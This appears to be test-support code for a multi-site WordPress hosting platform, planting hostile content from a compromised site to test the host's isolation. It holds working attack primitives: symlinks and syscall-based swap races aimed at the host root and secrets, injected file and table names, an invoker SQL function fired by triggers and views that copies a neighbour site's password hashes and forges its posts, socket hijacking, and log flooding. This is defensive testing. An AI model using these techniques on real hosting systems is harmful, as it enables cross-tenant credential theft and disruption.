"""One hostile site: what an association's hacked site can plant for whoever looks at it from outside (J1 to J11).

Everything is planted by an attacker's means alone: as the site's own user from inside its own container, and through
SQL as its own database user. Each trick is small; `TRICKS` lists them, so that tests can plant one, some or all.
"""

import json
import os
import re
import subprocess
from base64 import b64encode
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests.support.town import Town

SECONDS = 90  # for one planting
RACING = "/tmp/racing"  # as long as it is there, racers race
RACE_SECONDS = 600  # after which a racer, a lock and a listener end by themselves
CONTENT = "/srv/wordpress/wp-content"
HEARD = "heard.jsonl"  # in uploads: what programs noted that ran where WordPress is loaded
SPARSE_BYTES = 1 << 28
COUNTLESS = 5000
RACES = 40
LEVELS = 5000


@dataclass
class HostileSite:
    """A site of a town whose every file, table and program is an attacker's."""

    town: Town
    slug: str
    neighbour: str  # the slug of the site beside it, of which it wants everything

    @property
    def number(self) -> int:
        """Return the number of the generation that serves."""
        return int(os.readlink(self.town.data_root / "run/sites" / self.slug / "current"))

    @property
    def container(self) -> str:
        """Return the name of the container that serves."""
        return f"{self.town.namespace}.site.{self.slug}.{self.number}"

    @property
    def database(self) -> str:
        """Return the name of the database that serves."""
        return f"{self.slug.replace('-', '_')}_{self.number}"

    @property
    def directory(self) -> Path:
        """Return the site's directory on its host."""
        return self.town.data_root / "sites" / self.slug

    @property
    def media(self) -> Path:
        """Return the directory of the media that the serving generation shows, on its host."""
        mounts = self.town.docker().containers.get(self.container).attrs["Mounts"]
        return Path(next(one["Source"] for one in mounts if one["Destination"] == f"{CONTENT}/uploads"))

    def shell(self, script: str, *arguments: str) -> subprocess.CompletedProcess[str]:
        """Run a shell script in the site's container as the site's own user."""
        command = ["docker", "exec", "-i", self.container, "bash", "-s", "--", *arguments]
        return subprocess.run(
            command, input=script, capture_output=True, text=True, errors="replace", timeout=SECONDS, check=False
        )

    def must(self, script: str, *arguments: str) -> str:
        """Run a shell script that must end well; return what it printed."""
        done = self.shell(script, *arguments)
        assert done.returncode == 0, f"{done.stdout[-500:]}\n{done.stderr[-1000:]}"
        return done.stdout

    def background(self, *command: str) -> None:
        """Start a program in the site's container and leave it alone; it must end by itself."""
        subprocess.run(["docker", "exec", "-d", self.container, *command], check=True, timeout=SECONDS)

    def end(self, words: str) -> None:
        """End the programs that were started with ``words``, a regular expression, in their command line."""
        script = """
        for process in /proc/[0-9]*; do
            if grep -aq "$1" "$process/cmdline"; then kill "${process#/proc/}"; fi
        done 2>/dev/null
        """
        # By base64: this very program does not have them in its own command line.
        self.must(f'set -- "$(base64 -d <<< "$1")"; {script} true', b64encode(words.encode()).decode())

    def write(self, path: str, content: str | bytes, mode: int = 0o644) -> None:
        """Write a file of the site's; ``path`` is absolute, or lies below wp-content."""
        data = content.encode() if isinstance(content, str) else content
        script = 'mkdir -p "$(dirname "$1")"; base64 -d > "$1" <<< "$2"; chmod "$3" "$1"'
        self.must(script, path if path.startswith("/") else f"{CONTENT}/{path}", b64encode(data).decode(), f"{mode:o}")

    def php(self, program: str, **given: Any) -> Any:
        """Run a PHP program in the site's container, with ``$given`` in its hands; return what it printed as JSON."""
        values = b64encode(json.dumps(given).encode()).decode()
        script = f"<?php $given = json_decode(base64_decode('{values}'), true);\n{program}"
        command = ["docker", "exec", "-i", self.container, "php", "-d", "memory_limit=300M"]
        done = subprocess.run(command, input=script, capture_output=True, text=True, timeout=SECONDS, check=False)
        assert done.returncode == 0, f"{done.stdout[-500:]}\n{done.stderr[-1000:]}"
        return json.loads(done.stdout)

    def sql(self, *statements: str) -> list[str]:
        """Run statements as the site's own database user; return the error of each, or nothing."""
        errors: list[str] = self.php(CONNECT + _STATEMENTS, statements=statements)
        return errors

    def must_sql(self, *statements: str) -> None:
        """Run statements, all of which must be allowed."""
        errors = self.sql(*statements)
        assert errors == [""] * len(statements), list(zip(statements, errors, strict=True))

    def rows(self, query: str) -> list[list[str]]:
        """Return what a query of the site's own user finds."""
        found: list[list[str]] = self.php(CONNECT + _QUERY, query=query)
        return found

    def race(self, *pairs: str) -> None:
        """Exchange the two paths of each pair without end, as fast as the kernel does it."""
        self.must(f"touch {RACING}")
        self.background("perl", "-e", _EXCHANGE, RACING, str(RACE_SECONDS), *pairs)

    def end_races(self) -> None:
        """End every race of this site: each takes a processor."""
        self.must(f"rm -f {RACING}")

    def heard(self) -> list[dict[str, Any]]:
        """Return what the planted programs noted, each time that WordPress was loaded."""
        found = []
        for path in self.directory.glob(f"media*/{HEARD}"):
            found += [json.loads(line) for line in path.read_text(errors="replace").splitlines()]
        return found


def _program(name: str) -> str:
    """Return one of the PHP programs beside this file."""
    return (Path(__file__).parent / "hostile" / f"{name}.php").read_text(encoding="utf-8")


CONNECT = """
mysqli_report(MYSQLI_REPORT_OFF);
$own = json_decode(file_get_contents("/run/secrets/generation/generation.json"), true);
$link = mysqli_connect("localhost", $own["user"], $own["password"], $own["database"], 0, "/run/mysqld/mysqld.sock");
$link->set_charset("utf8mb4");
"""
_STATEMENTS = """
$errors = [];
foreach ($given["statements"] as $one) {
    try { $link->query($one); } catch (Throwable $error) { }
    $errors[] = $link->error;
}
echo json_encode($errors, JSON_INVALID_UTF8_SUBSTITUTE);
"""
_QUERY = 'echo json_encode($link->query($given["query"])->fetch_all(), JSON_INVALID_UTF8_SUBSTITUTE);'
_EXCHANGE = """
use Config;
my ($racing, $seconds, @pairs) = @ARGV;
my $number = $Config{archname} =~ /aarch64/ ? 276 : 316;
for (my $end = time + $seconds; time < $end && -e $racing;) {
    for (my $n = 0; $n < @pairs; $n += 2) {
        for (1 .. 15) { syscall($number, -100, $pairs[$n], -100, $pairs[$n + 1], 2); }
    }
}
"""


@dataclass(frozen=True)
class Trick:
    """Something that a site plants; ``row`` is its family of faults."""

    row: str
    plant: Callable[[HostileSite], None]
    holds: bool  # it holds up or stops whoever comes near, for as long as it is there

    @property
    def name(self) -> str:
        """Return the trick's name."""
        return self.plant.__name__


TRICKS: dict[str, Trick] = {}


def _trick(
    row: str, *, holds: bool = False
) -> Callable[[Callable[[HostileSite], None]], Callable[[HostileSite], None]]:
    def listed(plant: Callable[[HostileSite], None]) -> Callable[[HostileSite], None]:
        TRICKS[plant.__name__] = Trick(row, plant, holds)
        return plant

    return listed


def plant(site: HostileSite, names: Sequence[str] = ()) -> None:
    """Plant the tricks called ``names``, or all of them; each may be planted again."""
    for name in names or TRICKS:
        TRICKS[name].plant(site)


def remove(site: HostileSite, names: Sequence[str]) -> None:
    """Take tricks away again, of those that hold up or stop whoever comes near."""
    for name in names:
        _REMOVALS[name](site)


def _by(script: str) -> Callable[[HostileSite], object]:
    return lambda site: site.must(f'cd "$1"; {script}', CONTENT)


def _racer(places: str) -> Callable[[HostileSite], object]:
    def act(site: HostileSite) -> None:
        site.end_races()
        site.must(f'cd "$1"; for n in 1 2 3 4 5; do rm -rf {places} && exit; sleep 0.2; done; exit 1', CONTENT)

    return act


_REMOVALS: dict[str, Callable[[HostileSite], object]] = {
    "a_fifo_for_a_plugin": _by("rm -rf plugins/waiting style.css"),
    "deep_directories": _by("rm -rf uploads/deep"),
    "unreadable_files": _by("chmod -R u+rwX {plugins,uploads}/{closed,secret.php}; rm -rf {plugins,uploads}/closed"),
    "a_view_for_attachments": lambda site: site.must_sql(
        "DROP VIEW wp_postmeta", "RENAME TABLE wp_postmeta_real TO wp_postmeta"
    ),
    "an_invalid_view": lambda site: site.must_sql("DROP VIEW IF EXISTS invalid"),
    "a_lock_that_is_held": lambda site: site.end(r'given\["seconds"\]'),
    "a_racer_among_plugins": _racer("plugins/racer"),
    "a_racer_among_uploads": _racer("uploads/racer-*"),
}


# J1: links and other kinds of files at every place that is touched or mounted


@_trick("J1")
def links_at_mounted_places(site: HostileSite) -> None:
    """What is mounted below the site's own directory leads to the host's root."""
    site.must(
        """
        cd "$1"
        mkdir -p languages
        for name in plugins themes; do rm -rf "languages/$name"; ln -sfn / "languages/$name"; done
        """,
        CONTENT,
    )


@_trick("J1")
def links_at_touched_places(site: HostileSite) -> None:
    """Links to the host's and the one-shots' own places, where something is read, written or compared."""
    site.must(
        """
        cd "$1"
        mkdir -p upgrade plugins/links themes/links uploads/links
        n=0
        for target in / /etc /request.json /site/secrets /site/secrets/site.json /site /host /repository /proc/self \
            /proc/self/environ /run/mysqld/mysqld.sock ../../../.. ../../../../secrets/site.json /dev/zero; do
            n=$((n + 1))
            for folder in plugins/links themes/links uploads/links; do ln -sfn "$target" "$folder/link-$n"; done
        done
        ln -sfn link-a plugins/links/link-b; ln -sfn link-b plugins/links/link-a
        rm -rf upgrade; ln -sfn /site/secrets upgrade
        ln -sfn /etc/passwd uploads/index.php
        """,
        CONTENT,
    )


@_trick("J1")
def other_kinds_of_files(site: HostileSite) -> None:
    """FIFOs, sockets, set-id files, hard links; devices as far as the kernel lets it."""
    site.must(
        """
        cd "$1"
        for folder in plugins/kinds themes/kinds uploads/kinds languages/kinds; do
            mkdir -p "$folder"
            test -p "$folder/fifo" || mkfifo "$folder/fifo"
            test -e "$folder/hard-1" || { echo x > "$folder/hard-1"; ln "$folder/hard-1" "$folder/hard-2"; }
            cp /bin/true "$folder/set-id"; chmod 6755 "$folder/set-id"
            mknod "$folder/device" b 8 0 2>/dev/null || true
        done
        php -r 'foreach (["plugins", "uploads"] as $in) { $s = @stream_socket_server("unix://$in/kinds/socket"); }'
        """,
        CONTENT,
    )


@_trick("J1", holds=True)
def a_fifo_for_a_plugin(site: HostileSite) -> None:
    """WordPress opens it to read a plugin's or a theme's name, and waits for whoever would write."""
    site.must(
        """
        cd "$1"; mkdir -p plugins/waiting
        for name in plugins/waiting/fifo.php style.css; do test -p "$name" || mkfifo "$name"; done
        """,
        CONTENT,
    )


@_trick("J1")
def links_beside_the_socket(site: HostileSite) -> None:
    """The flag of a freeze is there already, and leads elsewhere."""
    site.must("ln -sfn /etc/hostname /run/site/frozen.new; ln -sfn /run/mysqld /run/site/switch-1.go")


# J2: racers


@_trick("J2", holds=True)
def a_racer_among_plugins(site: HostileSite) -> None:
    """A directory and a link to the root of whoever looks take turns, thousands of times a second."""
    site.must(
        'cd "$1/plugins"; test -e racer || { mkdir -p racer/in; echo x > racer/in/x.php; ln -s / racer/out; }', CONTENT
    )
    site.race(f"{CONTENT}/plugins/racer/in", f"{CONTENT}/plugins/racer/out")


@_trick("J2", holds=True)
def a_racer_among_uploads(site: HostileSite) -> None:
    """The same where media lie, in many places, towards the secrets of whoever reads them."""
    site.must(
        """
        cd "$1/uploads"
        for n in $(seq "$2"); do
            test -e "racer-$n" && continue
            mkdir -p "racer-$n/in"; echo x > "racer-$n/in/request.json"; ln -s / "racer-$n/out"
        done
        """,
        CONTENT,
        str(RACES),
    )
    pairs = [f"{CONTENT}/uploads/racer-{n}/{side}" for n in range(1, RACES + 1) for side in ("in", "out")]
    site.race(*pairs)


# J3: names


NAMES = [
    b"-rf", b"--files-from=x", b"--delete", b"-", b"--", b"*", b"a b", b"line\nbreak", b"\x1b]0;title\x07\x1b[2J",
    b"\xff\xfe\x80", b"\xe2\x80\xaegnp.exe", b"'\"`$(touch x)", b"\\", b"%s%n", b"x" * 255, b"{{7*7}}", b"=1+1",
    b"\r\nSet-Cookie: x=1", b"!provision: all is well", b"\xc2\x9b31m",
]  # fmt: skip


@_trick("J3")
def names_of_files(site: HostileSite) -> None:
    """File and directory names that are options, lines, escapes, no UTF-8, and paths of 4 kB."""
    program = """
    foreach ($given["folders"] as $folder) {
        @mkdir($folder, 0755, true);
        foreach ($given["names"] as $name) {
            $name = base64_decode($name);
            @mkdir("$folder/d", 0755);
            @file_put_contents("$folder/$name", "x");
            @mkdir("$folder/d/$name", 0755);
            @file_put_contents("$folder/d/$name/f.php", "x");
        }
        chdir($folder);
        for ($level = 0; $level < 15; $level++) { @mkdir(str_repeat("l", 250)); chdir(str_repeat("l", 250)); }
        file_put_contents("f.php", "x");
    }
    echo "true";
    """
    folders = [f"{CONTENT}/{folder}/names" for folder in ("plugins", "themes", "uploads")]
    site.php(program, folders=folders, names=[b64encode(name).decode() for name in NAMES])


@_trick("J3", holds=True)
def deep_directories(site: HostileSite) -> None:
    """Thousands of levels: longer than any path that the kernel takes at once."""
    site.must(
        """
        cd "$1/uploads"; mkdir -p deep; cd deep
        perl -e 'for (1 .. $ARGV[0]) { mkdir "d"; chdir "d" or die; } open my $f, ">", "f"; print $f "x";' "$2"
        """,
        CONTENT,
        str(LEVELS),
    )


OPTIONS = ["--plugin-dir=/site/tmp", "--default-auth=hostile", "--help", "-h", "--"]
TABLES = [
    *OPTIONS, "wp_x; DROP TABLE y", "wp_'\"$(x)", "wp_ligne\nsuite", "wp_\x1b[2J", "é 日本", "x" * 64, "select", "%s",
]  # fmt: skip


def quoted(name: str) -> str:
    """Return an identifier as SQL quotes it."""
    return "`" + name.replace("`", "``") + "`"


@_trick("J3")
def names_of_tables(site: HostileSite) -> None:
    """Tables and columns whose names are options, statements, lines and escapes."""
    tables(site, TABLES)


def tables(site: HostileSite, names: Sequence[str]) -> None:
    """Make a table of each name, with a column named alike and a row."""
    site.must_sql(
        *(
            f"CREATE TABLE IF NOT EXISTS {quoted(name)} "
            f"(id INT PRIMARY KEY, {quoted('--column=' + name[:40])} TEXT) ENGINE=InnoDB"
            for name in names
        ),
        *(f"REPLACE INTO {quoted(name)} VALUES (1, 'x')" for name in names),
    )


# J4: objects that run as whoever asks


@_trick("J4")
def functions_behind_names(site: HostileSite) -> None:
    """An invoker's function behind views with the names of tables that are asked for, triggers, events, a package."""
    # What a transaction that is rolled back took along stays, where the server lets a site have such tables.
    site.sql("CREATE TABLE loot (what TEXT) ENGINE=MyISAM")
    site.must_sql(
        "CREATE TABLE IF NOT EXISTS loot (what TEXT)",
        "DROP FUNCTION IF EXISTS robbed",
        _ROBBING_FUNCTION.format(own=site.database, victim=f"{site.neighbour.replace('-', '_')}_1"),
        "DROP TRIGGER IF EXISTS on_meta",
        "CREATE TRIGGER on_meta BEFORE DELETE ON wp_usermeta FOR EACH ROW SET @robbed = robbed()",
        "DROP TRIGGER IF EXISTS on_post",
        "CREATE TRIGGER on_post BEFORE UPDATE ON wp_posts FOR EACH ROW SET @robbed = robbed()",
        "DROP TRIGGER IF EXISTS on_link",
        "CREATE TRIGGER on_link BEFORE INSERT ON wp_links FOR EACH ROW SET @robbed = robbed()",
        "CREATE OR REPLACE SQL SECURITY INVOKER VIEW a_view AS SELECT robbed() AS what",
        "INSERT IGNORE INTO wp_links (link_id, link_url, link_name) VALUES (1, 'x', 'x')",
    )
    site.sql("CREATE EVENT IF NOT EXISTS each_second ON SCHEDULE EVERY 1 SECOND DO SET @robbed = robbed()")
    site.sql("SET sql_mode = ORACLE", "CREATE OR REPLACE PACKAGE p AS FUNCTION f RETURN INT; END")


def view_named_like(site: HostileSite, table: str, columns: str) -> None:
    """Put a view that robs in the place of one of WordPress's own tables."""
    site.sql(f"RENAME TABLE {table} TO {table}_real")
    site.must_sql(
        # Evaluated whatever rows are asked for.
        f"CREATE OR REPLACE SQL SECURITY INVOKER VIEW {table} AS SELECT {columns} "
        f"FROM (SELECT robbed() AS taken) AS robbery JOIN {table}_real"
    )


# What it reads and changes it may only as the server's administrator; a user of its own rights gets nothing.
_ROBBING_FUNCTION = """
CREATE FUNCTION robbed() RETURNS INT NOT DETERMINISTIC MODIFIES SQL DATA SQL SECURITY INVOKER
BEGIN
    DECLARE CONTINUE HANDLER FOR SQLEXCEPTION BEGIN END;
    INSERT INTO {own}.loot SELECT CONCAT(user_login, ' ', user_pass) FROM {victim}.wp_users;
    UPDATE {victim}.wp_posts SET post_title = 'FORGED' WHERE post_name = 'adherer';
    INSERT INTO {own}.loot SELECT CONCAT(user, ' ', priv) FROM mysql.global_priv;
    RETURN 0;
END
"""


@_trick("J4", holds=True)
def a_view_for_attachments(site: HostileSite) -> None:
    """The table that a backup asks for attachments is a view."""
    view_named_like(site, "wp_postmeta", "meta_id, post_id, meta_key, meta_value")


# J5: what the server stores, and what never ends there


@_trick("J5")
def storage_clauses(site: HostileSite) -> None:
    """Tables that would lie elsewhere, in memory, or in engines that read files; most are refused."""
    site.sql(
        "CREATE TABLE IF NOT EXISTS elsewhere (x INT) ENGINE=MyISAM DATA DIRECTORY='/var/lib/mysql' "
        "INDEX DIRECTORY='/tmp'",
        "CREATE TABLE IF NOT EXISTS in_memory (x VARCHAR(1000)) ENGINE=MEMORY",
        "CREATE TABLE IF NOT EXISTS comma (x INT NOT NULL) ENGINE=CSV",
        "CREATE TABLE IF NOT EXISTS connected (x INT) ENGINE=CONNECT TABLE_TYPE=DOS FILE_NAME='/etc/passwd'",
        "CREATE TABLE IF NOT EXISTS versioned (x INT) WITH SYSTEM VERSIONING",
        "CREATE SEQUENCE IF NOT EXISTS numbers",
        "CREATE OR REPLACE VIEW broken AS SELECT 1 AS x FROM wp_options",
    )


@_trick("J5", holds=True)
def an_invalid_view(site: HostileSite) -> None:
    """A view of a table that is gone: no dump is whole."""
    site.must_sql(
        "CREATE TABLE IF NOT EXISTS gone (x INT)",
        "CREATE OR REPLACE VIEW invalid AS SELECT x FROM gone",
        "DROP TABLE gone",
    )


@_trick("J5")
def large_rows(site: HostileSite) -> None:
    """A row of 30 MB, of bytes that grow when they are written down; as much of it as the server takes."""
    site.must_sql("CREATE TABLE IF NOT EXISTS large (id INT PRIMARY KEY, it LONGBLOB)")
    site.sql("REPLACE INTO large VALUES (1, REPEAT(UNHEX('00275C0A1A'), 6000000))")


HOLD = """
$link->query($given["statement"]);
sleep((int) $given["seconds"]);
"""


def hold(site: HostileSite, statement: str, seconds: int = RACE_SECONDS) -> None:
    """Run a statement and keep its connection open."""
    given = b64encode(json.dumps({"statement": statement, "seconds": seconds}).encode()).decode()
    program = f"$given = json_decode(base64_decode('{given}'), true);\n{CONNECT}{HOLD}"
    site.background("php", "-r", program)


@_trick("J5", holds=True)
def a_lock_that_is_held(site: HostileSite) -> None:
    """A table of the site's own is locked for writing, and nobody lets go of it."""
    site.must_sql("CREATE TABLE IF NOT EXISTS held (x INT)")
    hold(site, "LOCK TABLES held WRITE")


# J6: pages

PAGES = ("plain", "endless", "slow", "bomb", "short", "loop", "metadata", "neighbour")


def show(site: HostileSite, page: str) -> None:
    """Have every page of the site be ``page``, one of PAGES; the plugin must be planted."""
    site.write("uploads/page-mode", page)


@_trick("J6")
def hostile_pages(site: HostileSite) -> None:
    """A plugin whose pages are endless, slow, compressed, cut short or redirecting, as `show` says."""
    site.write("plugins/hostile/hostile.php", _program("pages"))
    site.write("uploads/page-mode", "plain")
    site.must_sql(
        "UPDATE wp_options SET option_value = 'a:1:{i:0;s:19:\"hostile/hostile.php\";}' "
        "WHERE option_name = 'active_plugins'"
    )


# J7: programs wherever WordPress is loaded; J10: what they answer; J11: headers aimed at neighbours

DROP_INS = ("db.php", "object-cache.php", "advanced-cache.php", "sunrise.php", "maintenance.php", "db-error.php",
            "php-error.php", "install.php", "blog-deleted.php")  # fmt: skip


@_trick("J7")
def drop_ins(site: HostileSite) -> None:
    """Drop-ins that note where they run, with which rights and limits, and what they can read."""
    for name in DROP_INS:
        site.write(name, _program("listener"))
    site.write("fatal-error-handler.php", _program("listener") + "return new WP_Fatal_Error_Handler();")
    site.write("mu-plugins/listener.php", _program("listener"))


ANSWERS = ("plain", "garbage", "forged", "long", "killed")


def answer(site: HostileSite, how: str) -> None:
    """Have every program that loads WordPress beside the site answer ``how``, one of ANSWERS."""
    site.write("uploads/answer-mode", how)


# J8: bytes and files that are hard to read


@_trick("J8")
def sparse_files(site: HostileSite) -> None:
    """A file of a large apparent size that takes no room."""
    site.must('truncate -s "$2" "$1/uploads/sparse.bin"', CONTENT, str(SPARSE_BYTES))


@_trick("J8", holds=True)
def unreadable_files(site: HostileSite) -> None:
    """Files and directories of mode 000: not even their owner reads them."""
    site.must(
        """
        cd "$1"
        for folder in plugins uploads; do
            test -e "$folder/closed" || { mkdir -p "$folder/closed/in"; echo x > "$folder/closed/in/file"; }
            echo x > "$folder/secret.php" 2>/dev/null; chmod 000 "$folder/secret.php" "$folder/closed"
        done
        """,
        CONTENT,
    )


@_trick("J8")
def countless_files(site: HostileSite) -> None:
    """Many small files in one directory."""
    site.must('mkdir -p "$1/uploads/many"; cd "$1/uploads/many"; seq "$2" | xargs touch', CONTENT, str(COUNTLESS))


# J9: sockets and floods


def socket_to(site: HostileSite, target: str) -> None:
    """Put a link in the place of the socket by which the site serves."""
    site.must('ln -sfn "$1" /run/site/next.sock; mv -T /run/site/next.sock /run/site/http.sock', target)


def deaf_socket(site: HostileSite, seconds: int = RACE_SECONDS) -> None:
    """Put a socket that never accepts in the place of the one by which the site serves."""
    program = (
        'unlink("/run/site/http.sock"); $s = stream_socket_server("unix:///run/site/http.sock", $n, $t, '
        'STREAM_SERVER_BIND | STREAM_SERVER_LISTEN, stream_context_create(["socket" => ["backlog" => 0]])); '
        f"sleep({seconds});"
    )
    site.background("php", "-r", program)


@_trick("J9")
def a_flooded_recorder(site: HostileSite) -> None:
    """Lines for its activity log, as many as go, some of which would forge lines or move a terminal's cursor."""
    program = """
    $s = stream_socket_client("udg:///run/activity/in.sock");
    $lines = ["{}", "garbage\\n", json_encode(["event" => "logged_in", "user" => "x\\n2026-01-01 forged",
        "object" => "\\x1b[2J\\u{202e}\\x9b31m"]), str_repeat("x", 60000), "\\xff\\xfe"];
    for ($n = 0; $n < 20000; $n++) { @fwrite($s, $lines[$n % count($lines)]); }
    """
    site.background("php", "-r", program)  # it ends when the recorder has taken them all, which is by and by


# Beyond one plant: what a site is told to look for


def want(site: HostileSite, paths: Sequence[str]) -> None:
    """Tell the planted programs which files of the host they would like to read."""
    assert all(re.fullmatch(r"/[^\n]+", path) for path in paths)
    site.write("uploads/wanted", "\n".join(paths))
